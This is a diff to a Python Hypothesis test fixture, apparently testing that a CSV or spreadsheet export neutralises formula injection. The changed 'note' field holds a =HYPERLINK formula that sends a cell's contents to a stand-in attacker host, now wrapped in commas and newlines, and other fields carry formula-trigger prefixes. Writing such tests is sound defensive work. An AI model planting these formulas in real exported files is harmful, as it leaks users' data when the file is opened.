@@ -65,7 +65,7 @@ entries = st.builds(
 @settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 @given(specs=st.lists(entries, min_size=1, max_size=4))
 @example(specs=[{"seed": 2, "box": (1, 1, 1, 1), "probabilities": [1 / 7] * 7, "source": "upload",
-                 "model": "-model", "model_version": "+1", "note": '=HYPERLINK("http://evil.example/?d="&B3,"x")',
+                 "model": "-model", "model_version": "+1", "note": 'one, two\nthree, four 5 6\n=HYPERLINK("http://evil.example/?d="&B3,"x")',
                  "tags": ["@sum", "'=q", "''", "-1"], "user_label": None, "when": datetime(2025, 1, 1),
                  "offset": 0}])
 @example(specs=[{"seed": 1, "box": (0, 0, 1, 1), "probabilities": [0, 0, 0, 1, 0, 0, 0], "source": "file",
